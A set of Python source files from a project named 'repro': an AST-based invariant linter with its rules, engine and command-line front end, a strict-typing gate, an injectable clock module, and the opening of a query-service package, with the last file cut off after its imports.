            if not (isinstance(stmt, ast.ImportFrom) and stmt.module
                    and stmt.level == 0):
                continue
            for alias in stmt.names:
                exported = alias.asname or alias.name
                if alias.name == "*" or (only is not None and exported not in only):
                    continue
                table.setdefault(stmt.module, set()).add(alias.name)

    def _resolve_reexports(
        self, root: Path, table: dict[str, set[str]]
    ) -> dict[str, set[str]]:
        """Follow package re-export chains down to the defining module.

        ``repro/__init__.py`` blesses ``SnmpClient`` from ``repro.snmp``,
        whose ``__init__.py`` in turn imports it from
        ``repro.snmp.client`` — the rule must fire on the class
        definition, wherever it lives.
        """
        resolved: dict[str, set[str]] = {}
        queue = [(module, name) for module, names in table.items() for name in names]
        for _hop in range(8):  # bounded: re-export chains are short
            deferred: list[tuple[str, str]] = []
            for module, name in queue:
                tree = self._parse_module(root, module)
                if tree is None:
                    continue
                defines = any(
                    isinstance(stmt, ast.ClassDef) and stmt.name == name
                    for stmt in tree.body
                )
                if defines:
                    resolved.setdefault(module, set()).add(name)
                    continue
                for stmt in tree.body:
                    if (isinstance(stmt, ast.ImportFrom) and stmt.module
                            and stmt.level == 0
                            and any((a.asname or a.name) == name for a in stmt.names)):
                        original = next(
                            a.name for a in stmt.names if (a.asname or a.name) == name
                        )
                        deferred.append((stmt.module, original))
                        break
            if not deferred:
                break
            queue = deferred
        return resolved

    @staticmethod
    def _parse_module(root: Path, module: str) -> "ast.Module | None":
        parts = module.split(".")
        if parts[0] != root.name:
            return None
        relative = Path(*parts[1:]) if len(parts) > 1 else Path()
        for candidate in (root / relative.with_suffix(".py") if parts[1:] else None,
                          root / relative / "__init__.py"):
            if candidate is not None and candidate.is_file():
                try:
                    return ast.parse(candidate.read_text(encoding="utf-8"))
                except (OSError, SyntaxError):
                    return None
        return None


# ---------------------------------------------------------------------------
# API002 — no new flat kwargs on the facade
# ---------------------------------------------------------------------------

#: The frozen flat keyword surface of the facade.  Execution knobs added
#: after the :class:`~repro.scanner.executor.ExecutionOptions`
#: consolidation belong on the options object; these sets hold the
#: grandfathered flat aliases plus the non-execution parameters and must
#: never grow.
_FACADE_FROZEN_KWARGS: "dict[tuple[str, str], frozenset[str]]" = {
    ("Session", "__init__"): frozenset({
        "scale", "seed", "config", "options",
        # deprecated flat execution aliases (pre-ExecutionOptions)
        "workers", "num_shards", "batch_size", "loss_probability",
        "fault_profile", "retry", "profile",
        # filter-pipeline and storage knobs
        "reboot_threshold", "skip", "store",
        # topology shaping goes through one blessed object, like execution
        "topology",
    }),
    ("Session", "run_campaign"): frozenset({"round_id", "options"}),
}


class ApiFlatKwargGrowthRule(Rule):
    """API002: the facade's flat keyword surface is frozen.

    ``Session`` and ``run_campaign`` accept a fixed, grandfathered set of
    flat keyword arguments (kept as deprecated aliases); every new way to
    shape *how* a campaign executes must be a field on
    :class:`~repro.scanner.executor.ExecutionOptions` so callers migrate
    toward one blessed object instead of an ever-growing keyword list.
    """

    rule_id = "API002"
    summary = "new flat keyword argument on the repro.api facade"

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        if ctx.module != "repro.api":
            return
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.ClassDef):
                continue
            for item in node.body:
                if not isinstance(item, ast.FunctionDef):
                    continue
                allowed = _FACADE_FROZEN_KWARGS.get((node.name, item.name))
                if allowed is None:
                    continue
                params = (
                    item.args.posonlyargs + item.args.args + item.args.kwonlyargs
                )
                for arg in params:
                    if arg.arg in ("self", "cls") or arg.arg in allowed:
                        continue
                    yield ctx.diagnostic(
                        self.rule_id, item,
                        f"{node.name}.{item.name} grew flat keyword argument "
                        f"{arg.arg!r}; execution knobs belong on "
                        f"ExecutionOptions — the flat alias list is frozen",
                    )


# ---------------------------------------------------------------------------
# OID001 — OID literals must be valid
# ---------------------------------------------------------------------------

_OID_SHAPED = re.compile(r"\.?\d+(\.\d+){4,}")  # >= 5 arcs: IPv4 stays out of scope


def oid_literal_error(text: str) -> str | None:
    """Why ``text`` is not a valid dotted OID, or ``None`` if it is."""
    stripped = text.strip().lstrip(".")
    if not stripped:
        return "empty OID string"
    parts = stripped.split(".")
    if not all(part.isdigit() for part in parts):
        bad = next(part for part in parts if not part.isdigit())
        return f"arc {bad!r} is not a non-negative integer"
    if any(part != "0" and part.startswith("0") for part in parts):
        bad = next(p for p in parts if p != "0" and p.startswith("0"))
        return f"arc {bad!r} has a leading zero"
    arcs = [int(part) for part in parts]
    if arcs[0] > 2:
        return f"first arc must be 0..2, got {arcs[0]}"
    if len(arcs) >= 2 and arcs[0] < 2 and arcs[1] > 39:
        return f"second arc must be 0..39 when the first is {arcs[0]}, got {arcs[1]}"
    return None


class OidLiteralRule(Rule):
    """OID001: a malformed OID constant is a typo the runtime finds too late."""

    rule_id = "OID001"
    summary = "OID string literal does not parse as a valid dotted OID"

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        flagged: set[int] = set()
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.Call):
                name = dotted_name(node.func) or ""
                if name.split(".")[-1] in ("Oid", "parse_oid") and node.args:
                    arg = node.args[0]
                    if isinstance(arg, ast.Constant) and isinstance(arg.value, str):
                        error = oid_literal_error(arg.value)
                        if error and id(arg) not in flagged:
                            flagged.add(id(arg))
                            yield ctx.diagnostic(
                                self.rule_id, arg,
                                f"invalid OID literal {arg.value!r}: {error}",
                            )
            elif (isinstance(node, ast.Constant) and isinstance(node.value, str)
                  and _OID_SHAPED.fullmatch(node.value.strip())
                  and id(node) not in flagged):
                error = oid_literal_error(node.value)
                if error:
                    flagged.add(id(node))
                    yield ctx.diagnostic(
                        self.rule_id, node,
                        f"invalid OID literal {node.value!r}: {error}",
                    )


# ---------------------------------------------------------------------------
# IMP001 — layering
# ---------------------------------------------------------------------------

#: (prefix scopes, exact module names) allowed to import each upper layer.
#: ``repro`` itself appears as an *exact* name: the package ``__init__``
#: re-exports the facade, but that must not whitelist every submodule.
_EXPERIMENTS_ALLOWED = (("repro.experiments",), ("repro", "repro.cli", "repro.__main__"))
_DEVTOOLS_ALLOWED = (("repro.devtools",), ())


class LayeringRule(Rule):
    """IMP001: the dependency graph points strictly downward.

    Core measurement packages may not reach up into ``tests``, the
    ``repro.experiments`` analysis layer, or ``repro.devtools`` —
    otherwise a unit import drags the whole evaluation stack (or the
    linter) into every fork-pool worker.
    """

    rule_id = "IMP001"
    summary = "core package imports an upper layer (tests/experiments/devtools)"

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        if not (ctx.module == "repro" or ctx.module.startswith("repro.")):
            return
        for node in ast.walk(ctx.tree):
            targets: list[str] = []
            if isinstance(node, ast.Import):
                targets = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                targets = [self._absolute(ctx, node)]
            for target in targets:
                if target is None:
                    continue
                yield from self._check_target(ctx, node, target)

    @staticmethod
    def _absolute(ctx: FileContext, node: ast.ImportFrom) -> str:
        if node.level == 0:
            return node.module or ""
        parts = ctx.module.split(".")
        # level 1 resolves to the current package for __init__ modules
        # and to the parent package for plain modules
        keep = len(parts) - node.level + (1 if ctx.is_package else 0)
        base = parts[:max(keep, 0)]
        return ".".join(base + ([node.module] if node.module else []))

    def _check_target(
        self, ctx: FileContext, node: ast.AST, target: str
    ) -> Iterator[Diagnostic]:
        if target == "tests" or target.startswith("tests."):
            yield ctx.diagnostic(
                self.rule_id, node,
                f"src/repro must never import {target!r}; move shared helpers "
                f"into the package",
            )
            return
        for layer, (prefixes, exact) in (
            ("repro.experiments", _EXPERIMENTS_ALLOWED),
            ("repro.devtools", _DEVTOOLS_ALLOWED),
        ):
            if target == layer or target.startswith(layer + "."):
                if not _in_scope(ctx.module, prefixes) and ctx.module not in exact:
                    yield ctx.diagnostic(
                        self.rule_id, node,
                        f"{ctx.module} imports {target}; the "
                        f"{layer} layer sits above core packages and may "
                        f"only be imported by {', '.join(prefixes + exact)}",
                    )


# ---------------------------------------------------------------------------
# registry
# ---------------------------------------------------------------------------

def default_rules() -> list[Rule]:
    """Fresh instances of every repo rule, in report order."""
    return [
        WallClockEntropyRule(),
        SharedStateRule(),
        DecoderHygieneRule(),
        ApiKeywordOnlyRule(),
        ApiFlatKwargGrowthRule(),
        OidLiteralRule(),
        LayeringRule(),
    ]


DEFAULT_RULES: tuple[str, ...] = tuple(r.rule_id for r in default_rules())
