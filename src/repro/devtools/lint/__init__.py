"""AST-based invariant linter (see ``python -m repro.devtools.lint --help``)."""

from repro.devtools.lint.engine import (
    SYNTAX_RULE,
    Diagnostic,
    FileContext,
    LintReport,
    Rule,
    iter_python_files,
    lint_source,
    module_name_for,
    run_lint,
)
from repro.devtools.lint.rules import DEFAULT_RULES, default_rules, oid_literal_error

__all__ = [
    "DEFAULT_RULES",
    "Diagnostic",
    "FileContext",
    "LintReport",
    "Rule",
    "SYNTAX_RULE",
    "default_rules",
    "iter_python_files",
    "lint_source",
    "module_name_for",
    "oid_literal_error",
    "run_lint",
]
