"""Command-line front end for the invariant linter.

Usage::

    python -m repro.devtools.lint src/repro              # the CI hard gate
    python -m repro.devtools.lint tests --informational  # report, exit 0
    python -m repro.devtools.lint --format json src/repro

Exit status: 0 clean (or ``--informational``), 1 findings, 2 bad usage.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path
from typing import Sequence

from repro.devtools.lint.engine import (
    STALE_SUPPRESSION_RULE,
    LintReport,
    Rule,
    run_lint,
)
from repro.devtools.lint.rules import default_rules


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.devtools.lint",
        description="AST-based linter for the repo's determinism and "
                    "protocol-hygiene invariants",
    )
    parser.add_argument("paths", nargs="*", default=None,
                        help="files or directories to lint (default: src/repro)")
    parser.add_argument("--format", choices=("text", "json"), default="text",
                        help="report format (default: text)")
    parser.add_argument("--select", default=None, metavar="RULES",
                        help="comma-separated rule IDs to run (default: all)")
    parser.add_argument("--ignore", default=None, metavar="RULES",
                        help="comma-separated rule IDs to skip (applied "
                             "after --select)")
    parser.add_argument("--informational", action="store_true",
                        help="always exit 0; for surveying new code")
    parser.add_argument("--list-rules", action="store_true",
                        help="print every rule ID with its summary and exit")
    return parser


def _parse_spec(spec: str, known: "set[str]") -> "set[str]":
    wanted = {part.strip().upper() for part in spec.split(",") if part.strip()}
    unknown = wanted - known
    if unknown:
        raise SystemExit(
            f"error: unknown rule id(s): {', '.join(sorted(unknown))} "
            f"(known: {', '.join(sorted(known))})"
        )
    return wanted


def select_rules(
    spec: "str | None", ignore: "str | None" = None
) -> "list[Rule]":
    """``--select``/``--ignore`` -> rule instances; ignore wins.

    ``LINT001`` (the engine-level stale-suppression sweep) is a known ID
    for both flags even though it has no Rule instance; ignoring it has
    no effect on the engine but is accepted for symmetry.
    """
    rules = default_rules()
    known = {rule.rule_id for rule in rules} | {STALE_SUPPRESSION_RULE}
    selected = _parse_spec(spec, known) if spec is not None else set(known)
    ignored = _parse_spec(ignore, known) if ignore is not None else set()
    return [
        rule
        for rule in rules
        if rule.rule_id in selected and rule.rule_id not in ignored
    ]


def main(argv: "Sequence[str] | None" = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    rules = default_rules()
    if args.list_rules:
        for rule in rules:
            print(f"{rule.rule_id}  {rule.summary}")
        print(f"{STALE_SUPPRESSION_RULE}  stale '# repro-lint: disable=...' "
              f"marker that no longer silences any diagnostic")
        return 0
    try:
        rules = select_rules(args.select, args.ignore)
    except SystemExit as exc:
        print(exc, file=sys.stderr)
        return 2
    paths = [Path(p) for p in (args.paths or ["src/repro"])]
    missing = [p for p in paths if not p.exists()]
    if missing:
        print(f"error: no such path: {', '.join(map(str, missing))}", file=sys.stderr)
        return 2
    report: LintReport = run_lint(paths, rules=rules)
    if args.format == "json":
        print(report.format_json())
    else:
        print(report.format_human())
    if args.informational:
        return 0
    return 0 if report.ok else 1


if __name__ == "__main__":  # pragma: no cover - exercised via __main__
    raise SystemExit(main())
