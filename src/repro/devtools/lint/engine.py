"""The rule engine behind ``python -m repro.devtools.lint``.

A deliberately small linter core: parse each module once with
:mod:`ast`, hand the tree to every rule, collect
:class:`Diagnostic` records, and drop those silenced by an inline
``# repro-lint: disable=RULE`` comment on the flagged line.

The engine knows nothing about the repo's invariants — rules do (see
:mod:`repro.devtools.lint.rules`).  Rules receive a :class:`FileContext`
carrying the parsed tree plus the module's dotted name, so scoping
decisions ("only fork-pool-shared packages", "only protocol decoders")
are made on module names, never on brittle path matching.
"""

from __future__ import annotations

import ast
import io
import json
import re
import tokenize
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Iterator, Sequence

#: Inline suppression marker.  Same-line only, one or more rule IDs:
#: ``do_risky_thing()  # repro-lint: disable=RULEA,RULEB`` (real IDs
#: like DET001; placeholders here keep the example itself out of the
#: LINT001 stale-suppression sweep).
_SUPPRESS_RE = re.compile(r"#\s*repro-lint:\s*disable=([A-Za-z0-9_]+(?:\s*,\s*[A-Za-z0-9_]+)*)")

#: Rule ID used for files that do not parse; it cannot be suppressed.
SYNTAX_RULE = "SYNTAX"

#: Meta-rule: a ``# repro-lint: disable=RULE`` comment that no longer
#: suppresses any diagnostic of an *active* rule is itself reported —
#: stale suppressions read as live exceptions and hide real regressions
#: when the silenced code comes back.  Only rules actually running are
#: considered, so a TYP001-only typegate pass never flags the linter's
#: DET/PROTO markers as stale (and vice versa).
STALE_SUPPRESSION_RULE = "LINT001"

#: Version of the JSON report schema emitted by :meth:`LintReport.to_json`
#: (bumped from 1 when ``version`` was renamed to ``schema_version``).
JSON_SCHEMA_VERSION = 2


@dataclass(frozen=True)
class Diagnostic:
    """One finding: a rule, a location, and a human-readable message."""

    rule: str
    path: str
    line: int
    col: int
    message: str

    def format(self) -> str:
        return f"{self.path}:{self.line}:{self.col}: {self.rule} {self.message}"

    def to_json(self) -> dict[str, object]:
        return {
            "rule": self.rule,
            "path": self.path,
            "line": self.line,
            "col": self.col,
            "message": self.message,
        }


class FileContext:
    """Everything a rule may need about one module under analysis."""

    def __init__(
        self,
        *,
        path: Path,
        display_path: str,
        module: str,
        source: str,
        tree: ast.Module,
        package_root: Path | None = None,
    ) -> None:
        self.path = path
        self.display_path = display_path
        self.module = module
        self.source = source
        self.tree = tree
        #: Directory of the top-level package the module belongs to
        #: (e.g. ``.../src/repro``); ``None`` for loose files.
        self.package_root = package_root
        self.is_package = path.name == "__init__.py"
        self._suppressions: dict[int, set[str]] | None = None

    def diagnostic(self, rule: str, node: ast.AST, message: str) -> Diagnostic:
        return Diagnostic(
            rule=rule,
            path=self.display_path,
            line=getattr(node, "lineno", 1),
            col=getattr(node, "col_offset", 0) + 1,
            message=message,
        )

    # -- suppressions ------------------------------------------------------

    @property
    def suppressions(self) -> dict[int, set[str]]:
        """Map of line number -> rule IDs disabled on that line.

        Comments are located with :mod:`tokenize`, so markers inside
        string literals never silence anything.
        """
        if self._suppressions is None:
            self._suppressions = self._scan_suppressions()
        return self._suppressions

    def _scan_suppressions(self) -> dict[int, set[str]]:
        found: dict[int, set[str]] = {}
        try:
            tokens = tokenize.generate_tokens(io.StringIO(self.source).readline)
            for tok in tokens:
                if tok.type != tokenize.COMMENT:
                    continue
                match = _SUPPRESS_RE.search(tok.string)
                if match is None:
                    continue
                rules = {part.strip() for part in match.group(1).split(",") if part.strip()}
                found.setdefault(tok.start[0], set()).update(rules)
        except tokenize.TokenError:  # pragma: no cover - engine already parsed the file
            pass
        return found

    def is_suppressed(self, diag: Diagnostic) -> bool:
        if diag.rule == SYNTAX_RULE:
            return False
        return diag.rule in self.suppressions.get(diag.line, set())


class Rule:
    """Base class for lint rules.

    Subclasses set :attr:`rule_id` / :attr:`summary` and implement
    :meth:`check`.  A rule sees one file at a time; cross-file state
    (e.g. the blessed-API table) belongs on the rule instance.
    """

    rule_id: str = "RULE000"
    summary: str = ""

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        raise NotImplementedError

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return f"<{type(self).__name__} {self.rule_id}>"


@dataclass
class LintReport:
    """Aggregated result of one lint run."""

    diagnostics: list[Diagnostic] = field(default_factory=list)
    files: int = 0
    suppressed: int = 0

    @property
    def ok(self) -> bool:
        return not self.diagnostics

    def counts(self) -> dict[str, int]:
        by_rule: dict[str, int] = {}
        for diag in self.diagnostics:
            by_rule[diag.rule] = by_rule.get(diag.rule, 0) + 1
        return dict(sorted(by_rule.items()))

    def to_json(self) -> dict[str, object]:
        return {
            "schema_version": JSON_SCHEMA_VERSION,
            "files": self.files,
            "suppressed": self.suppressed,
            "counts": self.counts(),
            "diagnostics": [d.to_json() for d in self.diagnostics],
        }

    def format_json(self) -> str:
        return json.dumps(self.to_json(), indent=2, sort_keys=False)

    def format_human(self) -> str:
        lines = [d.format() for d in self.diagnostics]
        if self.diagnostics:
            total = len(self.diagnostics)
            parts = ", ".join(f"{rule} x{n}" for rule, n in self.counts().items())
            lines.append(f"{total} finding{'s' if total != 1 else ''} ({parts}) "
                         f"in {self.files} files; {self.suppressed} suppressed")
        else:
            lines.append(f"clean: {self.files} files, {self.suppressed} suppressed")
        return "\n".join(lines)


# ---------------------------------------------------------------------------
# discovery
# ---------------------------------------------------------------------------

def module_name_for(path: Path) -> tuple[str, Path | None]:
    """Dotted module name for ``path`` plus its top-level package directory.

    Walks upward while ``__init__.py`` files exist, so
    ``src/repro/scanner/executor.py`` maps to
    ``("repro.scanner.executor", .../src/repro)`` regardless of where
    the lint run was rooted.  Loose scripts map to their stem.
    """
    path = path.resolve()
    parts = [path.stem] if path.name != "__init__.py" else []
    package_dir = path.parent
    top: Path | None = None
    while (package_dir / "__init__.py").exists():
        parts.insert(0, package_dir.name)
        top = package_dir
        package_dir = package_dir.parent
    if not parts:
        parts = [path.stem]
    return ".".join(parts), top


def iter_python_files(paths: Sequence[Path]) -> list[Path]:
    """Expand files/directories into a sorted, de-duplicated module list."""
    seen: set[Path] = set()
    ordered: list[Path] = []
    for entry in paths:
        if entry.is_dir():
            candidates: Iterable[Path] = sorted(entry.rglob("*.py"))
        else:
            candidates = [entry]
        for candidate in candidates:
            resolved = candidate.resolve()
            if "__pycache__" in resolved.parts or resolved in seen:
                continue
            seen.add(resolved)
            ordered.append(candidate)
    return ordered


# ---------------------------------------------------------------------------
# running
# ---------------------------------------------------------------------------

def lint_source(
    source: str,
    *,
    module: str,
    rules: Sequence[Rule],
    path: Path | None = None,
    display_path: str | None = None,
    package_root: Path | None = None,
) -> tuple[list[Diagnostic], int]:
    """Lint one in-memory module; returns ``(diagnostics, suppressed)``.

    The test-suite entry point: fixtures are checked under a synthetic
    ``module`` name so scoped rules (DET002, PROTO001, ...) can be
    exercised without files living inside ``src/repro``.
    """
    real_path = path or Path(f"<{module}>")
    shown = display_path or str(real_path)
    try:
        tree = ast.parse(source)
    except SyntaxError as exc:
        diag = Diagnostic(
            rule=SYNTAX_RULE,
            path=shown,
            line=exc.lineno or 1,
            col=(exc.offset or 0) + 1,
            message=f"file does not parse: {exc.msg}",
        )
        return [diag], 0
    ctx = FileContext(
        path=real_path,
        display_path=shown,
        module=module,
        source=source,
        tree=tree,
        package_root=package_root,
    )
    kept: list[Diagnostic] = []
    suppressed = 0
    used: set[tuple[int, str]] = set()
    for rule in rules:
        for diag in rule.check(ctx):
            if ctx.is_suppressed(diag):
                suppressed += 1
                used.add((diag.line, diag.rule))
            else:
                kept.append(diag)
    # Stale-suppression sweep (LINT001): every marker naming an active
    # rule must have silenced at least one diagnostic this run.
    active = {rule.rule_id for rule in rules}
    for line, rule_ids in sorted(ctx.suppressions.items()):
        for rule_id in sorted(rule_ids):
            if rule_id == STALE_SUPPRESSION_RULE or rule_id not in active:
                continue
            if (line, rule_id) in used:
                continue
            diag = Diagnostic(
                rule=STALE_SUPPRESSION_RULE,
                path=shown,
                line=line,
                col=1,
                message=f"suppression of {rule_id} no longer silences any "
                        f"diagnostic; remove the stale marker",
            )
            if ctx.is_suppressed(diag):
                suppressed += 1
            else:
                kept.append(diag)
    kept.sort(key=lambda d: (d.path, d.line, d.col, d.rule))
    return kept, suppressed


def run_lint(paths: Sequence[Path], *, rules: Sequence[Rule]) -> LintReport:
    """Lint every module under ``paths`` with ``rules``."""
    report = LintReport()
    for file_path in iter_python_files(paths):
        try:
            source = file_path.read_text(encoding="utf-8")
        except (OSError, UnicodeDecodeError) as exc:
            report.diagnostics.append(
                Diagnostic(
                    rule=SYNTAX_RULE,
                    path=str(file_path),
                    line=1,
                    col=1,
                    message=f"cannot read file: {exc}",
                )
            )
            report.files += 1
            continue
        module, package_root = module_name_for(file_path)
        diags, suppressed = lint_source(
            source,
            module=module,
            rules=rules,
            path=file_path,
            display_path=str(file_path),
            package_root=package_root,
        )
        report.diagnostics.extend(diags)
        report.suppressed += suppressed
        report.files += 1
    report.diagnostics.sort(key=lambda d: (d.path, d.line, d.col, d.rule))
    return report
