"""The strict-typing ratchet: ``python -m repro.devtools.typegate``.

Modules listed under ``[tool.repro.typegate] strict = [...]`` in
``pyproject.toml`` (exact module names or package prefixes) must be
*fully annotated*: every function and method declares a return type and
annotates every named parameter (``self``/``cls`` and bare ``*args`` /
``**kwargs`` shims are exempt; nested functions are local detail and
skipped).  Violations are reported as rule **TYP001** through the same
engine as the invariant linter, so ``# repro-lint: disable=TYP001``
works for the rare justified exception.

The ratchet only tightens: add a module once it is clean, never remove
one.  CI additionally runs real ``mypy`` over the same module list with
``disallow_untyped_defs`` (see ``[tool.mypy]``); this AST gate is the
dependency-free approximation that runs everywhere, including
environments without mypy installed.
"""

from __future__ import annotations

import argparse
import ast
import sys
from pathlib import Path
from typing import Iterator, Sequence

from repro.devtools.lint.engine import Diagnostic, FileContext, LintReport, Rule, run_lint

try:  # python >= 3.11
    import tomllib
except ModuleNotFoundError:  # pragma: no cover - 3.10 fallback
    tomllib = None  # type: ignore[assignment]

#: Used when pyproject.toml is missing or unreadable, so the gate stays
#: meaningful even from an sdist without project metadata.
FALLBACK_STRICT: tuple[str, ...] = ("repro.devtools",)


def load_strict_modules(pyproject: "Path | None" = None) -> tuple[str, ...]:
    """Read the ratchet table; search upward from cwd when no path given."""
    candidates: list[Path]
    if pyproject is not None:
        candidates = [pyproject]
    else:
        here = Path.cwd().resolve()
        candidates = [parent / "pyproject.toml" for parent in (here, *here.parents)]
    for candidate in candidates:
        if not candidate.is_file():
            continue
        if tomllib is None:
            break
        try:
            with candidate.open("rb") as fh:
                data = tomllib.load(fh)
        except (OSError, tomllib.TOMLDecodeError):
            break
        table = data.get("tool", {}).get("repro", {}).get("typegate", {})
        strict = table.get("strict", [])
        if isinstance(strict, list) and all(isinstance(m, str) for m in strict):
            return tuple(strict)
        break
    return FALLBACK_STRICT


class AnnotationCompletenessRule(Rule):
    """TYP001: ratcheted modules declare every parameter and return type."""

    rule_id = "TYP001"
    summary = "function in a strict-typed module is missing annotations"

    def __init__(self, strict_modules: Sequence[str]) -> None:
        self._strict = tuple(strict_modules)

    def _applies(self, module: str) -> bool:
        return any(module == m or module.startswith(m + ".") for m in self._strict)

    def check(self, ctx: FileContext) -> Iterator[Diagnostic]:
        if not self._applies(ctx.module):
            return
        yield from self._walk_body(ctx, ctx.tree.body, method=False)

    def _walk_body(
        self, ctx: FileContext, body: Sequence[ast.stmt], *, method: bool
    ) -> Iterator[Diagnostic]:
        for stmt in body:
            if isinstance(stmt, ast.ClassDef):
                yield from self._walk_body(ctx, stmt.body, method=True)
            elif isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)):
                # Nested defs are implementation detail; do not recurse.
                missing = self._missing_annotations(stmt, method=method)
                if missing:
                    yield ctx.diagnostic(
                        self.rule_id, stmt,
                        f"{stmt.name}() is missing annotations: "
                        f"{', '.join(missing)} (module is in the "
                        f"[tool.repro.typegate] strict ratchet)",
                    )

    @staticmethod
    def _missing_annotations(
        fn: "ast.FunctionDef | ast.AsyncFunctionDef", *, method: bool
    ) -> list[str]:
        missing: list[str] = []
        named = fn.args.posonlyargs + fn.args.args
        skip_first = method and bool(named) and named[0].arg in ("self", "cls")
        for index, arg in enumerate(named):
            if index == 0 and skip_first:
                continue
            if arg.annotation is None:
                missing.append(f"parameter {arg.arg!r}")
        for arg in fn.args.kwonlyargs:
            if arg.annotation is None:
                missing.append(f"parameter {arg.arg!r}")
        if fn.returns is None:
            missing.append("return type")
        return missing


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.devtools.typegate",
        description="annotation-completeness gate over the "
                    "[tool.repro.typegate] strict ratchet",
    )
    parser.add_argument("paths", nargs="*", default=None,
                        help="files or directories to check (default: src/repro)")
    parser.add_argument("--pyproject", default=None,
                        help="explicit pyproject.toml carrying the ratchet table")
    parser.add_argument("--format", choices=("text", "json"), default="text")
    parser.add_argument("--informational", action="store_true",
                        help="always exit 0")
    parser.add_argument("--list-modules", action="store_true",
                        help="print the ratcheted module list and exit")
    return parser


def main(argv: "Sequence[str] | None" = None) -> int:
    args = build_parser().parse_args(argv)
    strict = load_strict_modules(Path(args.pyproject) if args.pyproject else None)
    if args.list_modules:
        for module in strict:
            print(module)
        return 0
    paths = [Path(p) for p in (args.paths or ["src/repro"])]
    missing = [p for p in paths if not p.exists()]
    if missing:
        print(f"error: no such path: {', '.join(map(str, missing))}", file=sys.stderr)
        return 2
    report: LintReport = run_lint(paths, rules=[AnnotationCompletenessRule(strict)])
    if args.format == "json":
        print(report.format_json())
    else:
        print(report.format_human())
    if args.informational:
        return 0
    return 0 if report.ok else 1


if __name__ == "__main__":  # pragma: no cover - exercised via -m
    raise SystemExit(main())
