"""Blessed home of the keyword-only constructor compatibility decorator.

The implementation lives in the dependency-free :mod:`repro.compat` so
core packages can apply it without importing :mod:`repro.devtools`
(IMP001 layering); import it from here in tooling, tests and docs.
"""

from __future__ import annotations

from repro.compat import keyword_only_compat

__all__ = ["keyword_only_compat"]
