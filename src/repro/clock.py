"""Injectable elapsed-time measurement.

Rule DET001 bans ambient wall-clock reads (``time.time()``) in
``src/repro``: a timestamp that differs between runs is entropy, and
entropy anywhere near the measurement path undermines the byte-identical
replay guarantee.  Elapsed-time *reporting* is still wanted — the CLI
prints how long a campaign took — so it flows through this module:
``time.perf_counter`` is a duration-only monotonic clock (explicitly
whitelisted by DET001), and callers take a :class:`Clock` so tests can
inject a :class:`ManualClock` and assert on formatted output
deterministically.
"""

from __future__ import annotations

import time
from typing import Protocol


class Clock(Protocol):
    """Anything that yields monotonically non-decreasing seconds."""

    def now(self) -> float:
        """Current reading in seconds; only differences are meaningful."""
        ...


class PerfCounterClock:
    """The default clock: :func:`time.perf_counter` readings."""

    def now(self) -> float:
        return time.perf_counter()


class ManualClock:
    """A test clock advanced explicitly with :meth:`advance`."""

    def __init__(self, start: float = 0.0) -> None:
        self._now = float(start)

    def now(self) -> float:
        return self._now

    def advance(self, seconds: float) -> None:
        if seconds < 0:
            raise ValueError(f"cannot move a clock backwards: {seconds}")
        self._now += seconds


class Stopwatch:
    """Elapsed seconds since construction, against an injected clock."""

    def __init__(self, clock: "Clock | None" = None) -> None:
        self._clock: Clock = clock if clock is not None else PerfCounterClock()
        self._started = self._clock.now()

    def elapsed(self) -> float:
        return self._clock.now() - self._started


__all__ = ["Clock", "ManualClock", "PerfCounterClock", "Stopwatch"]
