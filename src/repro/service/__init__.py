"""repro.service — the always-on observatory layer.

Everything below this package is batch: build a world, run a campaign,
write a store, exit.  This package keeps the measurement *running* and
the results *served* — the ROADMAP's "recurring scans, many concurrent
readers" layer over the :mod:`repro.store` corpus:

* :mod:`repro.service.scheduler` — the deterministic scheduler daemon:
  recurring full sweeps plus targeted re-probes of recently churned or
  rebooted devices, driven entirely by an injected
  :class:`~repro.clock.Clock` (byte-identical replays under
  :class:`~repro.clock.ManualClock`), with overlap suppression,
  seeded per-job jitter, crash-safe resume from the store manifest and
  graceful drain.
* :mod:`repro.service.query` — the concurrent query service:
  snapshot-isolated reads pinned to one manifest generation, an LRU
  result cache keyed on ``(generation, query)``, per-client token-bucket
  rate limiting (shared :mod:`repro.net.ratelimit` machinery) and
  per-endpoint serving metrics.
* :mod:`repro.service.http` — a stdlib HTTP/JSON front-end over the
  query service (the ``repro.cli serve`` verb).

Blessed via :meth:`repro.api.Session.query_service` and
:meth:`repro.api.Session.scheduler`; the ``serve`` and ``schedule`` CLI
verbs drive the same objects.
"""

from repro.service.http import ServiceHttpServer
from repro.service.query import (
    DEFAULT_CACHE_ENTRIES,
    ENDPOINTS,
    EndpointMetrics,
    QueryService,
    RateLimitExceeded,
    ServiceError,
    ServiceResponse,
)
from repro.service.scheduler import (
    DEFAULT_JOBS,
    REPROBE_LABEL_PREFIX,
    JobRun,
    JobSpec,
    ServiceScheduler,
)

__all__ = [
    "DEFAULT_CACHE_ENTRIES",
    "DEFAULT_JOBS",
    "ENDPOINTS",
    "REPROBE_LABEL_PREFIX",
    "EndpointMetrics",
    "JobRun",
    "JobSpec",
    "QueryService",
    "RateLimitExceeded",
    "ServiceError",
    "ServiceHttpServer",
    "ServiceResponse",
    "ServiceScheduler",
]
