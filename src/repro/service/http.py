"""A minimal HTTP/JSON front-end over the :class:`QueryService`.

Standard-library only (:class:`http.server.ThreadingHTTPServer`): one
thread per connection, every request funnelled through the thread-safe
:meth:`QueryService.request`.  The surface:

* ``GET /v1/<endpoint>[?arg=<value>]`` — one query; the JSON body
  carries the pinned generation, cache status and value.
* ``GET /metrics`` — the service's per-endpoint counters.
* ``GET /healthz`` — liveness plus the current generation.

Rate-limited requests return ``429``; bad arguments ``400``; unknown
paths ``404``.  Clients are identified by the ``client`` query parameter
when present, else by their remote address.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
